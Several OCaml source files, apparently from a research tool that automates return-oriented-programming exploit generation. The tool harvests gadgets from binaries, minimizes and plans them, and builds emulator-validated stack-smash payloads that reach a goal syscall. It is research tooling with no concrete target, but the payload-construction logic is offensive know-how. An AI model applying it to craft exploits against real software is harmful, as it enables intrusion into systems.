  let results = Array.to_list (Gp_util.Par.run ~jobs tasks) in
  (* Associative merges, in chunk index order — including the summary
     hit/miss counters: workers count into chunk-local records and only
     this fold, on the main domain, sums them, so aggregation can never
     undercount however domains interleave. *)
  let quarantined =
    List.fold_left
      (fun acc (_, t, _, _, _, _) -> Fail.merge_counts acc (Fail.tally_list t))
      [] results
  in
  let examined =
    List.fold_left (fun acc (_, _, e, _, _, _) -> acc + e) 0 results
  in
  let s_hits, s_misses =
    List.fold_left
      (fun (h, m) (_, _, _, _, sctr, _) ->
        (h + sctr.sc_hits, m + sctr.sc_misses))
      (0, 0) results
  in
  let x_hits, x_misses, x_subst =
    List.fold_left
      (fun (h, m, s) (_, _, _, _, _, smemo) ->
        let mh, msh, mm, ms = Gp_symx.Exec.memo_counts smemo in
        (h + mh + msh, m + mm, s + ms))
      (0, 0, 0) results
  in
  let hit = List.exists (fun (_, _, _, h, _, _) -> h) results in
  Budget.spend budget ~amount:examined;
  let gadgets =
    List.concat_map (fun (entries, _, _, _, _, _) -> entries) results
    |> List.filter_map (fun entry ->
           let id = ids () in
           match entry with
           | Some g -> Some { g with Gadget.id }
           | None -> None)
  in
  ( gadgets,
    { h_starts = examined;
      h_quarantined = quarantined;
      h_budget_hit = hit;
      h_summary_hits = s_hits;
      h_summary_misses = s_misses;
      h_suffix_hits = x_hits;
      h_suffix_misses = x_misses;
      h_substitutions = x_subst;
      h_decode_saved = max 0 (Decode.memo_lookups memo - Decode.memo_size memo) } )

(* Budgeted, fault-isolating harvest.  One poisoned start — injected
   decode fault, symbolic-executor refusal, or an exception out of
   summary conversion — quarantines THAT start and is tallied; the rest
   of the harvest proceeds.  Gadget order (and hence the global gadget
   id sequence) is identical to the unbudgeted [harvest] when nothing
   fires.  [jobs] > 1 fans the scan out over that many domains with
   results merged back in deterministic order (identical pool, ids,
   and tallies; see DESIGN.md "Parallel execution & determinism"). *)
let harvest_r ?(config = default_config) ?(budget = Budget.unlimited ())
    ?(jobs = 1) ?(ids = Gadget.global_ids) (image : Gp_util.Image.t) :
    Gadget.t list * harvest_stats =
  if jobs > 1 then harvest_par ~jobs ~config ~budget ~ids image
  else begin
    let sym_config = sym_config_of config in
    let memo = Decode.memo image.Gp_util.Image.code in
    let decode = Decode.decode_memo memo in
    let tally = Fail.tally_create () in
    let sctr = { sc_hits = 0; sc_misses = 0 } in
    let smemo = Gp_symx.Exec.memo_create () in
    let sfind, sadd = suffix_hooks ~decode image in
    let acc = ref [] in
    let examined = ref 0 in
    let budget_hit =
      try
        List.iter
          (fun pos ->
            Budget.check budget;
            Budget.spend budget;
            incr examined;
            let entries =
              examine_start ~config ~sym_config ~decode ~sctr ~smemo ~sfind
                ~sadd
                ~mk:(fun summ ->
                  (* draw only after conversion succeeds, mirroring
                     of_summary's own end-of-body draw: a raising
                     conversion must not consume an id *)
                  let g = Gadget.of_summary ~id:(-1) summ in
                  { g with Gadget.id = ids () })
                ~tally image pos
            in
            acc := List.filter_map Fun.id entries :: !acc)
          (start_positions ~decode ~config image);
        false
      with Budget.Exhausted _ -> true
    in
    let mh, msh, mm, ms = Gp_symx.Exec.memo_counts smemo in
    ( List.concat (List.rev !acc),
      { h_starts = !examined;
        h_quarantined = Fail.tally_list tally;
        h_budget_hit = budget_hit;
        h_summary_hits = sctr.sc_hits;
        h_summary_misses = sctr.sc_misses;
        h_suffix_hits = mh + msh;
        h_suffix_misses = mm;
        h_substitutions = ms;
        h_decode_saved =
          max 0 (Decode.memo_lookups memo - Decode.memo_size memo) } )
  end

let harvest ?config ?jobs image = fst (harvest_r ?config ?jobs image)
