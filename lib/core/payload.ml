(* Post-processing (paper §IV stage 4): linearize a complete partial-order
   plan and emit the concrete stack payload.

   All bookkeeping is in ABSOLUTE addresses: the exploit scenario fixes
   the payload base (Layout), so the word the smashed return address
   occupies is [Layout.payload_base], chain cells follow it, and
   pinned-pointer cells (frame reads, double indirections) live deeper in
   the payload.  A chain may pivot the stack (leave-style gadgets): after
   a pivot, the cursor continues from the pinned frame address.

   Every emitted payload is finally validated by concrete execution. *)

open Gp_smt

type chain = {
  c_goal : Goal.concrete;
  c_steps : Plan.step list;     (* execution order; goal step last *)
  c_payload : int64 array;      (* word 0 sits at Layout.payload_base *)
}

exception Infeasible of string

let filler = 0x4141414141414141L

(* Topological order with the goal step forced last. *)
let linearize (p : Plan.t) : Plan.step list =
  let goal = List.find (fun s -> s.Plan.is_goal) p.Plan.steps in
  let orderings =
    List.fold_left
      (fun acc (s : Plan.step) ->
        if s.Plan.sid = goal.Plan.sid then acc
        else (s.Plan.sid, goal.Plan.sid) :: acc)
      p.Plan.orderings p.Plan.steps
  in
  let sids = List.map (fun s -> s.Plan.sid) p.Plan.steps in
  let rec kahn remaining edges acc =
    match remaining with
    | [] -> List.rev acc
    | _ ->
      let ready =
        List.filter
          (fun s -> not (List.exists (fun (_, b) -> b = s) edges))
          remaining
      in
      (match ready with
       | [] -> raise (Infeasible "ordering cycle")
       | s :: _ ->
         kahn
           (List.filter (fun x -> x <> s) remaining)
           (List.filter (fun (a, _) -> a <> s) edges)
           (s :: acc))
  in
  let order =
    kahn sids
      (List.filter (fun (a, b) -> List.mem a sids && List.mem b sids) orderings)
      []
  in
  List.map (Plan.find_step p) order

(* Solve [term = value] for a single payload-controlled variable: either a
   stack slot (relative cell) or a resolved memory read (absolute cell). *)
let inv64 k =
  let rec newton x n =
    if n = 0 then x else newton (Int64.mul x (Int64.sub 2L (Int64.mul k x))) (n - 1)
  in
  newton k 6

let solve_target (s : Plan.step) term value =
  match Term.linearize term with
  | Some { Term.lin_const = c; lin_terms = [] } ->
    if c = value then `Trivial else `Unsolvable
  | Some { Term.lin_const = c; lin_terms = [ (v, k) ] } when Int64.logand k 1L = 1L
    -> (
    let cell_value = Int64.mul (Int64.sub value c) (inv64 k) in
    match Gp_symx.State.slot_of_var v with
    | Some off -> `Slot (off, cell_value)
    | None -> (
      match List.assoc_opt v s.Plan.mem_cells with
      | Some abs -> `Abs (abs, cell_value)
      | None -> `Unsolvable))
  | _ -> `Unsolvable

let build (p : Plan.t) (goal : Goal.concrete) : chain =
  let steps = linearize p in
  let cells : (int64, int64) Hashtbl.t = Hashtbl.create 64 in
  let runtime : (int64, unit) Hashtbl.t = Hashtbl.create 16 in
  let bind addr v =
    if not (Layout.in_payload addr) then
      raise (Infeasible "cell outside the payload region");
    if Hashtbl.mem runtime addr then
      raise (Infeasible "payload cell is overwritten at run time");
    match Hashtbl.find_opt cells addr with
    | Some v' when v' <> v -> raise (Infeasible "conflicting payload cells")
    | _ -> Hashtbl.replace cells addr v
  in
  (* A runtime write poisons a cell for all LATER binds (later steps'
     payload reads).  Binds already made — including this same step's own
     reads, which symbolic execution proved happen before the write — are
     unaffected. *)
  let mark_runtime addr =
    if Layout.in_payload addr then Hashtbl.replace runtime addr ()
  in
  let n = List.length steps in
  (* the cursor: absolute address of each gadget's entry rsp *)
  let pbase = Layout.payload_base () in
  let entry = ref (Int64.add pbase 8L) in
  List.iteri
    (fun i (s : Plan.step) ->
      let g = s.Plan.gadget in
      let abs off = Int64.add !entry (Int64.of_int off) in
      List.iter (fun (off, v) -> bind (abs off) v) s.Plan.bindings;
      List.iter (fun (a, v) -> bind a v) s.Plan.abs_bindings;
      (* transfer to the next gadget *)
      (if i < n - 1 then begin
         let next = (List.nth steps (i + 1)).Plan.gadget.Gadget.addr in
         let target =
           match g.Gadget.jmp with
           | Gp_symx.Exec.Jret t | Gp_symx.Exec.Jind t -> t
           | Gp_symx.Exec.Jfall _ ->
             raise (Infeasible "syscall gadget in chain interior")
         in
         match solve_target s target next with
         | `Trivial -> ()
         | `Slot (off, v) -> bind (abs off) v
         | `Abs (a, v) -> bind a v
         | `Unsolvable ->
           raise (Infeasible "jump target not payload-controllable")
       end);
      (* runtime stack writes must not collide with payload cells *)
      List.iter (fun (off, _) -> mark_runtime (abs off)) g.Gadget.stack_writes;
      List.iter mark_runtime s.Plan.write_addrs;
      (* advance the stack cursor *)
      (match g.Gadget.stack_delta with
       | Gadget.Sdelta d -> entry := abs d
       | Gadget.Spivot d -> (
         (* after a frame pivot, execution continues at rbp_entry + d *)
         let rbp =
           List.find_map
             (function Plan.Creg (r, v) when r = Gp_x86.Reg.RBP -> Some v | _ -> None)
             s.Plan.demands
         in
         match rbp with
         | Some v -> entry := Int64.add v (Int64.of_int d)
         | None -> raise (Infeasible "pivot with unconstrained rbp"))
       | Gadget.Sunknown ->
         if i < n - 1 then raise (Infeasible "unknown stack delta mid-chain")))
    steps;
  (* goal memory cells inside the payload arrive with the smashed stack *)
  List.iter (fun (a, v) -> if Layout.in_payload a then bind a v) goal.Goal.mem;
  (* assemble the word array *)
  let first = (List.hd steps).Plan.gadget.Gadget.addr in
  bind pbase first;
  let max_addr = Hashtbl.fold (fun a _ acc -> max a acc) cells pbase in
  let nwords = (Int64.to_int (Int64.sub max_addr pbase) / 8) + 1 in
  let payload =
    Array.init nwords (fun k ->
        match Hashtbl.find_opt cells (Int64.add pbase (Int64.of_int (8 * k))) with
        | Some v -> v
        | None -> filler)
  in
  { c_goal = goal; c_steps = steps; c_payload = payload }

let build_opt p goal = try Some (build p goal) with Infeasible _ -> None

(* ----- end-to-end validation ----- *)

(* Execute the payload exactly as a stack smash would: the payload's word
   0 sits where a saved return address was, and control arrives via that
   return.  Registers start zeroed (the attacker does not control them).

   Returns the raw machine outcome so callers can tell a chain that
   CRASHED ([Fault]) from one that merely ran out of fuel ([Timeout]) —
   conflating them would misreport budget exhaustion as broken chains.
   Writing the payload can itself fault (a payload long enough to run
   past the mapped stack region); that is the chain's failure, not the
   pipeline's, so it is folded into [Fault] here. *)
let validate_run ?(fuel = 1_000_000) (image : Gp_util.Image.t) (c : chain) :
    Gp_emu.Machine.outcome =
  try
    let m = Gp_emu.Machine.create image in
    let pbase = Layout.payload_base () in
    Array.iteri
      (fun k w ->
        Gp_emu.Memory.write64 m.Gp_emu.Machine.mem
          (Int64.add pbase (Int64.of_int (8 * k)))
          w)
      c.c_payload;
    m.Gp_emu.Machine.rip <- c.c_payload.(0);
    Gp_emu.Machine.set_rsp m (Int64.add pbase 8L);
    (* fault-injection fuse keyed on the chain (its gadget sequence),
       not on how many validations ran before this one — so an injection
       schedule hits the same chains whatever order or domain count the
       portfolio validates them in *)
    let fuse_key =
      Hashtbl.hash
        (List.map (fun s -> s.Plan.gadget.Gadget.addr) c.c_steps)
    in
    Gp_emu.Machine.run ~fuel ~fuse_key m
  with Gp_emu.Memory.Fault m -> Gp_emu.Machine.Fault ("payload write: " ^ m)

let validate ?fuel (image : Gp_util.Image.t) (c : chain) : bool =
  Goal.satisfied c.c_goal (validate_run ?fuel image c)

(* Chains are "the same" when they use the same gadget addresses in the
   same order. *)
let chain_key (c : chain) =
  String.concat ","
    (List.map (fun s -> Printf.sprintf "%Lx" s.Plan.gadget.Gadget.addr) c.c_steps)

(* Coarser identity: the SET of gadgets used.  Two linearizations of the
   same partial order are one payload, not two (this is how distinct
   payloads are counted in the experiments). *)
let chain_set_key (c : chain) =
  String.concat ","
    (List.sort_uniq compare
       (List.map (fun s -> Printf.sprintf "%Lx" s.Plan.gadget.Gadget.addr) c.c_steps))

let describe (c : chain) =
  let buf = Buffer.create 256 in
  Buffer.add_string buf
    (Printf.sprintf "chain for %s: %d gadgets, %d payload words\n"
       (Goal.name c.c_goal.Goal.goal) (List.length c.c_steps)
       (Array.length c.c_payload));
  List.iter
    (fun (s : Plan.step) ->
      Buffer.add_string buf ("  " ^ Gadget.to_string s.Plan.gadget ^ "\n"))
    c.c_steps;
  Buffer.add_string buf "  payload: ";
  Array.iteri
    (fun k w ->
      if k < 16 then Buffer.add_string buf (Printf.sprintf "%Lx " w))
    c.c_payload;
  if Array.length c.c_payload > 16 then Buffer.add_string buf "...";
  Buffer.add_string buf "\n";
  Buffer.contents buf
