(** Gadget extraction (paper §IV-B).

    Two modes: {!raw_scan} is the cheap syntactic census every tool
    starts from (slide a decoder over every byte offset, classify the
    run) — what Fig. 1 / Table I count; {!harvest} is the full pipeline —
    prefilter byte offsets syntactically, then symbolically execute each
    surviving start and build planner-ready gadget records. *)

type config = {
  unaligned : bool;           (** start at every byte, not just insn starts *)
  max_insns : int;
  max_forks : int;
  max_merges : int;
  max_gadget_bytes : int;
}

val default_config : config

(** {1 Syntactic census} *)

type raw = {
  raw_addr : int64;
  raw_insns : Gp_x86.Insn.t list;
  raw_kind : Gadget.kind;
}

val scan_run :
  ?merge:bool ->
  ?decode:(int -> (Gp_x86.Insn.t * int) option) ->
  config:config ->
  Gp_util.Image.t ->
  int ->
  (Gp_x86.Insn.t list * Gadget.kind) option
(** Follow a run from a byte offset until a control transfer.  With
    [merge] (the harvest prefilter) direct jumps/calls are followed;
    without it (the census) a direct transfer ends the gadget, matching
    the paper's UDJ/CDJ taxonomy.  [decode] (default: plain
    [Decode.decode] on the image) lets callers share a decode-once
    memo across overlapping runs. *)

val raw_scan : ?config:config -> Gp_util.Image.t -> raw list
(** The census behind Fig. 1 / Table I (default census depth: 24
    instructions). *)

val raw_counts : ?config:config -> Gp_util.Image.t -> (Gadget.kind * int) list

(** {1 Symbolic harvest} *)

val usable : Gadget.t -> bool
(** Can the planner place this gadget in a chain?  Requires an understood
    stack effect (bounded positive delta for ret gadgets, bounded pivots,
    anything for terminal syscall gadgets). *)

val harvest : ?config:config -> ?jobs:int -> Gp_util.Image.t -> Gadget.t list
(** Full extraction: every byte offset, symbolically summarized, filtered
    to usable records.  Feed the result to {!Subsume.minimize}. *)

val chaos_decode : (int64 -> bool) ref
(** Fault-injection hook: starts for which the predicate answers true
    are treated as undecodable windows and quarantined.  Defaults to
    never firing; installed/removed by [Gp_harness.Faultsim]. *)

type harvest_stats = {
  h_starts : int;                       (** start offsets examined *)
  h_quarantined : (string * int) list;  (** {!Fail.label} -> count *)
  h_budget_hit : bool;                  (** harvest stopped early *)
  h_summary_hits : int;
      (** starts answered from the content-addressed store ({!Incr}) *)
  h_summary_misses : int;               (** starts symbolically executed *)
  h_suffix_hits : int;
      (** suffix queries answered from the per-chunk memo or the
          persistent suffix store ([Exec.summarize_cr], DESIGN.md §16) *)
  h_suffix_misses : int;                (** suffix entries computed fresh *)
  h_substitutions : int;
      (** suffix entries built by [Exec.extend] (one instruction
          grafted onto a memoized tail) rather than monolithic
          re-execution *)
  h_decode_saved : int;
      (** repeat decodes absorbed by the decode-once memo (lookups
          beyond one per position); cache-temperature-dependent, like
          the hit/miss counts, so excluded from differential
          fingerprints *)
}

val harvest_r :
  ?config:config -> ?budget:Budget.t -> ?jobs:int ->
  ?ids:Gadget.id_source -> Gp_util.Image.t ->
  Gadget.t list * harvest_stats
(** Budgeted, fault-isolating {!harvest}: a poisoned start (injected
    decode fault, [Symx] refusal, exception out of summary conversion)
    quarantines that start and is tallied, never aborting the harvest.
    With an unlimited budget and no injection the gadget list — and the
    global gadget-id sequence — is identical to {!harvest}'s.

    [jobs] > 1 fans the scan out over that many domains, chunking the
    start offsets; results merge back in chunk order and gadget ids are
    renumbered on the main domain, so the pool, id sequence, quarantine
    tallies, and budget accounting are identical to the sequential run
    (DESIGN.md "Parallel execution & determinism").

    [ids] is where successful conversions draw gadget ids (default:
    the process-global sequence).  Scheduler cells pass
    [Gadget.local_ids ()] so concurrent harvests never share the
    counter; a fresh local source yields exactly the ids a sequential
    [Gadget.reset_ids (); harvest_r] would (DESIGN.md §14). *)
