(** High-level Gadget-Planner API: the four-stage pipeline of Fig. 3.

    {v
    image --(1) gadget extraction----> gadgets
          --(2) subsumption testing--> minimal pool
          --(3) partial-order planning-> plans
          --(4) post-processing + validation-> payloads
    v}

    {!run} executes all four stages and returns only chains whose
    payloads drive the emulator to the goal syscall.

    Resilience (DESIGN.md "Failure model & budgets"): stage boundaries
    are Result-typed over {!Fail}, per-gadget faults are quarantined and
    tallied into {!stage_stats}, an optional {!Budget.t} bounds the
    whole run, and on a zero-chain result {!run} retries down a
    degradation ladder, recording each {!rung} in the outcome.  With no
    budget and no fault injection, behavior is identical to the
    pre-resilience pipeline. *)

type stage_stats = {
  extracted : int;          (** summaries before minimization *)
  deduped : int;            (** pool after subsumption *)
  pool_size : int;
  plans_found : int;        (** accepted complete plans *)
  chains_built : int;
  chains_validated : int;
  quarantined : (string * int) list;
      (** {!Fail.label} -> count of items quarantined in stages 1-2 *)
  solver_unknowns : int;
      (** solver [Unknown] verdicts attributable to this run *)
  validate_faults : int;
      (** candidate chains whose payload crashed the machine *)
  validate_timeouts : int;
      (** candidate chains that ran out of emulator fuel — budget
          starvation, deliberately counted apart from faults *)
  budget_hits : string list;
      (** stages whose budget ran dry ("extract", "subsume", "plan") *)
  cache_hits : int;
  cache_misses : int;
      (** solver memo traffic (check + prove_equal + pool-keyed stores)
          during this run.  Hit rate is a property of cache temperature,
          never of verdicts — reported, but excluded from differential
          jobs-equivalence comparisons. *)
  plan_expanded : int;
      (** planner nodes expanded (summed over portfolio roots) *)
  plan_peak_queue : int;
      (** high-water mark of the planner queue (max over roots) *)
  plan_inst_hits : int;    (** planner instantiation-memo hits *)
  plan_cand_hits : int;    (** planner ranked-candidate-memo hits *)
  plan_discarded : int;
      (** complete plans rejected by the accept gate (duplicate chain,
          unbuildable payload, failed validation) *)
  screen_refuted : int;
      (** Tier A screening (DESIGN.md §12): [prove_equal] probes refuted
          by disjoint abstract values *)
  screen_decided : int;
      (** Tier A: [check]/[entails] queries decided abstractly *)
  concrete_refuted : int;
      (** Tier B: queries refuted under the fixed adversarial
          valuations.  These three tallies count per query answered
          (before the memos) and are job-count-invariant, same
          discipline as [solver_unknowns]. *)
  elim_reused : int;
      (** Tier C: checks that reused memoized elimination-prefix steps.
          Temperature-dependent, like the cache counters — reported but
          excluded from differential comparisons. *)
  summary_hits : int;
  summary_misses : int;
      (** content-addressed summary store traffic during the harvest
          (DESIGN.md §11): starts answered from the store vs
          symbolically executed.  Temperature-dependent, like the
          solver-memo counters — reported but excluded from
          differential comparisons. *)
  suffix_hits : int;
  suffix_misses : int;
      (** suffix-summary memo/store traffic during the harvest
          (DESIGN.md §16): suffix queries answered from the per-chunk
          memo or the persistent suffix store vs computed fresh.
          Temperature-dependent — excluded from differential
          comparisons. *)
  fp_hits : int;
  fp_misses : int;
      (** fingerprint store traffic (DESIGN.md §17): gadgets whose
          semantic fingerprint was answered from the content-addressed
          table/store vs batch-evaluated.  Temperature-dependent —
          excluded from differential comparisons. *)
  fp_refuted : int;
      (** solver probes refuted from fingerprints alone: subsumption
          pairs skipped by the partition/precondition masks, plus
          planner instantiations refuted on closed terms.  Counts per
          probe answered — jobs- and temperature-invariant — but zero
          with --no-fp, so differentials exclude it like the screen
          tallies. *)
  substitutions : int;
      (** suffix entries built compositionally by [Exec.extend] (one
          instruction grafted onto a memoized tail) rather than by
          monolithic re-execution — the work the composition layer
          avoided *)
  decode_saved : int;
      (** repeat decodes absorbed by the decode-once extraction memo *)
  store_loaded : int;
      (** entries imported from the on-disk store (0 on a cold run) *)
  store_stale : int;
      (** 1 when a store file was found but rejected (corrupt or
          version-stale) and the run was demoted to cold; the rejection
          is also quarantined under the "store" label *)
  wal_replayed : int;
      (** entries recovered from the store's write-ahead journal
          (DESIGN.md §13); counted inside [store_loaded] too *)
  wal_truncated : int;
      (** bytes dropped from a torn journal tail; a nonzero value is
          also quarantined under the "wal-torn" label *)
  retries : int;
      (** supervised retry attempts consumed; filled by
          [Runner.run_corpus], 0 for a bare [run] *)
  cells_resumed : int;
      (** sweep cells replayed from a checkpoint manifest instead of
          recomputed; filled by [Runner.run_corpus], 0 for a bare
          [run] *)
  extract_time : float;
  subsume_time : float;
  plan_time : float;
  validate_time : float;
      (** seconds inside [Payload.validate_run] — included in
          [plan_time] (validation runs inside the search's accept
          gate), broken out so stage 4 is observable on its own *)
}

(** Stages 1–2, reusable across goals and planner configurations. *)
type analysis = {
  image : Gp_util.Image.t;
  gadgets : Gadget.t list;      (** post-subsumption *)
  pool : Pool.t;
  raw_extracted : int;
  extract_time : float;
  subsume_time : float;
  quarantined : (string * int) list;   (** harvest quarantine ledger *)
  analysis_budget_hits : string list;  (** of stages 1-2 *)
  analysis_unknowns : int;             (** solver Unknowns in stages 1-2 *)
  analysis_cache_hits : int;           (** solver memo hits in stages 1-2 *)
  analysis_cache_misses : int;
  analysis_screen : int * int * int * int;
      (** screening-tier deltas of stages 1-2, in [Solver.screen_stats]
          order *)
  analysis_fp : int * int * int;
      (** fingerprint deltas of stages 1-2: (store hits, store misses,
          probes refuted) — DESIGN.md §17 *)
  analysis_summary_hits : int;         (** summary-store hits (stage 1) *)
  analysis_summary_misses : int;
  analysis_suffix_hits : int;          (** suffix memo/store hits (stage 1) *)
  analysis_suffix_misses : int;
  analysis_substitutions : int;        (** suffixes built by [Exec.extend] *)
  analysis_decode_saved : int;         (** decode-once memo savings *)
  analysis_store_loaded : int;         (** on-disk entries imported *)
  analysis_store_stale : int;          (** 1 if the store was rejected *)
  analysis_wal_replayed : int;         (** journal entries recovered *)
  analysis_wal_truncated : int;        (** torn-tail bytes dropped *)
}

val timed : (unit -> 'a) -> 'a * float

(** {1 Per-stage continuations (DESIGN.md §14)}

    The pipeline split into resumable steps, each returning the
    explicit intermediate state the next consumes, so a corpus
    scheduler ({!Gp_harness.Sched}) can interleave stages of different
    cells on one domain pool.  {!analyze} and {!run_with_analysis} are
    compositions of these — the sequential and staged paths share code
    and therefore results.

    The only caveat under interleaving: the global-delta counters
    ([analysis_unknowns], cache/screen traffic) are snapshots of
    process-wide counters, so a concurrent cell's traffic can land in
    another cell's deltas.  Every such counter is temperature-class and
    excluded from the differential payload; all result-bearing state
    (pool, chains, quarantine tallies, per-cell counters) is
    interleaving-invariant. *)

type extracted
(** Stage-1 output: the raw harvest plus store/meter state, consumed
    by {!stage_subsume}. *)

type planned
(** Stage-3 output: per-root search results awaiting the deterministic
    merge in {!stage_finalize}. *)

val stage_extract :
  ?extract_config:Extract.config -> ?cache_dir:string -> ?budget:Budget.t ->
  ?jobs:int -> ?ids:Gadget.id_source -> Gp_util.Image.t -> extracted
(** Stage 1 alone.  [budget] is the ROOT pipeline budget: the harvest
    draws its usual 0.6-fraction slice from it, so passing the same
    root to {!stage_subsume} reproduces {!analyze} exactly.  [ids] is
    where gadget ids are drawn (default: the process-global sequence);
    concurrently scheduled cells each pass [Gadget.local_ids ()]. *)

val stage_subsume :
  ?subsume:bool -> ?budget:Budget.t -> ?jobs:int -> extracted ->
  analysis * Gadget.t list
(** Stage 2 alone: minimize the harvested pool (or pass it through when
    [subsume:false]) and assemble the {!analysis}.  Also returns the
    raw harvest for the degradation ladder's dedup-only re-pool. *)

val analyze :
  ?extract_config:Extract.config -> ?subsume:bool -> ?budget:Budget.t ->
  ?jobs:int -> ?cache_dir:string -> ?ids:Gadget.id_source ->
  Gp_util.Image.t -> analysis
(** Stages 1–2.  [budget] bounds both stages (extract gets the larger
    slice); exhaustion degrades — a partial harvest, or a pool passed
    through un-subsumed — and is recorded, never raised.  [jobs] > 1
    runs both stages on that many domains; results are deterministic
    and identical to [jobs = 1] (DESIGN.md "Parallel execution &
    determinism").

    [cache_dir] names a directory holding the content-addressed
    incremental store (DESIGN.md §11): loaded before stage 1, saved
    after stage 2.  Strictly a warm start — the analysis is
    bit-identical with or without it, at any job count.  A corrupt or
    version-stale store demotes to a cold run ([analysis_store_stale],
    "store" quarantine entry); nothing is ever raised. *)

(** {1 Degradation ladder}

    When a run yields zero validated chains, {!run} retries with
    progressively looser configurations.  Each rung is recorded so
    experiments can report {e how} a result was obtained. *)

type rung =
  | Full           (** the normal pipeline *)
  | Dedup_only     (** stage 2 degraded to exact-duplicate removal *)
  | Wider_branch   (** dedup-only pool + doubled planner [branch_cap] *)
  | Relaxed_steps  (** previous + relaxed plan-size cap *)

val rung_name : rung -> string

val rung_planner_config : Planner.config -> rung -> Planner.config
(** Loosen the planner config for a ladder rung (cumulative: the last
    rung is also the widest).  Exposed so the daemon's staged ladder
    degrades exactly like {!run}. *)

val dedup_analysis : analysis -> Gadget.t list -> analysis
(** The [Dedup_only] rung's analysis: re-pool the raw harvest (the
    second component {!stage_subsume} returns) with exact duplicates
    removed — a superset of the subsumed pool.  Exposed for the same
    reason as {!rung_planner_config}. *)

type outcome = {
  goal : Goal.concrete;
  chains : Payload.chain list;   (** validated only *)
  stats : stage_stats;           (** of the final rung attempted *)
  rungs : rung list;             (** ladder rungs attempted, in order *)
}

val stage_plan :
  ?planner_config:Planner.config -> ?validate:bool -> ?budget:Budget.t ->
  ?jobs:int -> analysis -> Goal.t -> planned
(** Stage 3 alone (with candidate validation riding inside the search
    workers, as always — the accept gate consumes the verdicts). *)

val stage_finalize : planned -> outcome
(** Stage 4 proper: cross-root merge in root order, global dedup by
    gadget set, plan re-quota, stats assembly.  Pure — no solver, no
    emulator, no global counters — so it can run on any domain. *)

val run_with_analysis :
  ?planner_config:Planner.config ->
  ?validate:bool ->
  ?budget:Budget.t ->
  ?jobs:int ->
  analysis ->
  Goal.t ->
  outcome
(** Stages 3–4 over a prepared analysis (a single ladder rung; [rungs]
    is always [[Full]] here).  Runs the goal-portfolio search
    ({!Planner.search_par}) at every job count: one independent search
    per root syscall gadget, payloads validated inside each worker,
    per-root chain lists merged in root order, deduplicated by gadget
    set, and cut to the global plan quota — so the outcome is identical
    at any [jobs].  Unless [validate:false], every chain is confirmed
    by concrete execution before being counted; validation fuel is
    derived from the remaining budget.  No exception escapes: budget
    death yields an outcome with the hit recorded. *)

val run :
  ?extract_config:Extract.config ->
  ?planner_config:Planner.config ->
  ?validate:bool ->
  ?budget:Budget.t ->
  ?jobs:int ->
  ?cache_dir:string ->
  ?ids:Gadget.id_source ->
  Gp_util.Image.t ->
  Goal.t ->
  outcome
(** The whole pipeline in one call, with the degradation ladder: the
    harvest runs once, then Full → Dedup_only → Wider_branch →
    Relaxed_steps until a chain is found, the root budget dies, or the
    ladder ends.  [jobs] > 1 parallelizes all four stages over that
    many domains; the outcome (pool, plans, chains, tallies) is
    identical to the default [jobs = 1].

    [cache_dir] enables the on-disk incremental store (DESIGN.md §11):
    summaries and solver verdicts load before stage 1 and persist after
    the ladder finishes, so planner-phase verdicts are captured too.
    The outcome is bit-identical with or without it; unusable stores
    demote to cold and are quarantined under "store". *)
