(** Subsumption testing (paper §IV-C).

    [g1] subsumes [g2] when [(pre2 -> pre1) ∧ (post1 = post2)] —
    formula (1): same observable effects under a pre-condition at least
    as weak, so [g2] adds nothing. *)

val semantic_hash : Gadget.t -> int64
(** Structural FNV-64 over the full semantics (post state, jump, writes,
    pre).  Equal semantics hash equally, because terms are canonicalized
    by construction; confirm collisions with {!semantic_equal}. *)

val semantic_equal : Gadget.t -> Gadget.t -> bool
(** Structural equality over the same components {!semantic_hash}
    covers ([Jfall] targets ignored, as always — every syscall summary
    is one class regardless of fall-through address). *)

val same_effects : Gadget.t -> Gadget.t -> bool
(** Equal post-conditions, jump behaviour, and memory effects
    (pre-conditions may differ). *)

val subsumes : Gadget.t -> Gadget.t -> bool
(** Formula (1): [subsumes g1 g2] — keep [g1], drop [g2]. *)

type stats = {
  input : int;
  after_dedup : int;      (** after exact-duplicate removal *)
  after_subsume : int;    (** final pool size *)
  timed_out : bool;       (** budget ran dry mid-pass *)
}

val minimize :
  ?max_bucket:int -> ?budget:Budget.t -> ?jobs:int -> Gadget.t list ->
  Gadget.t list * stats
(** Pool minimization: an exact-duplicate pass (unaligned sliding
    produces thousands of byte-identical summaries), then pairwise
    subsumption inside cheap signature buckets.  Shorter gadgets are
    preferred as survivors.

    Subsumption only shrinks the pool, so failure is never fatal: a
    solver blow-up on one pair keeps the gadget, and when [budget] runs
    dry the remaining gadgets pass through unexamined ([timed_out] set).
    The default unlimited budget reproduces seed behavior exactly.

    [jobs] > 1 probes buckets in parallel (each against a budget slice
    sharing the deadline); the work list and per-bucket survivor order
    are identical either way, so the minimized pool matches the
    sequential result element for element. *)
