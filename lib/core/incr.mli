(** Content-addressed incremental analysis (DESIGN.md §11).

    A process-wide store from {!Gadget.content_key} strings to the full
    [Exec.summarize_r] result for that content, consulted by the
    harvest before symbolically executing a start.  Semantically
    transparent: the key determines the summaries exactly, so cached
    and uncached runs are bit-identical (the differential suite checks
    this at jobs 1 and 4).  {!load}/{!save} persist the table — along
    with the solver verdict memos, which is how subsumption probes
    consult the store — via [Gp_util.Store]'s checksummed format,
    giving warm starts across process invocations and across
    obfuscation configs of the same program. *)

type value = Gp_symx.Exec.summary list * string option

val enabled : unit -> bool

val set_enabled : bool -> unit
(** [false] disables in-run summary sharing (benchmark ablation); the
    other pipeline caches have the same switch. *)

val find : string -> value option

val add : string -> value -> unit
(** First-write-wins, like every shared cache here: racing domains at
    worst duplicate a compute, and both arrive at the same value. *)

val size : unit -> int
val reset : unit -> unit

(** {1 Persistence} *)

val schema_version : int
(** Bump whenever summary/term/verdict encodings change; older store
    files are then rejected as stale and runs fall back to cold. *)

val file_name : string
(** Store file inside a [cache_dir] ("summaries.gpst"). *)

val path : dir:string -> string

type status =
  | Loaded of int      (** entries imported (summaries + solver verdicts) *)
  | Absent             (** no store file: a plain cold run *)
  | Rejected of string (** found but unusable (corrupt/stale); cold run *)

val load : dir:string -> status
(** Merge the on-disk store into the in-memory table and solver memos
    (existing entries win).  Never raises: every failure mode is a
    {!status}. *)

val save : dir:string -> (unit, string) result
(** Write the current table + solver memos atomically (temp file +
    rename).  Errors are returned, never raised. *)
