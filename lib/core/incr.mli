(** Content-addressed incremental analysis (DESIGN.md §11).

    A process-wide store from {!Gadget.content_key} strings to the full
    [Exec.summarize_r] result for that content, consulted by the
    harvest before symbolically executing a start.  Semantically
    transparent: the key determines the summaries exactly, so cached
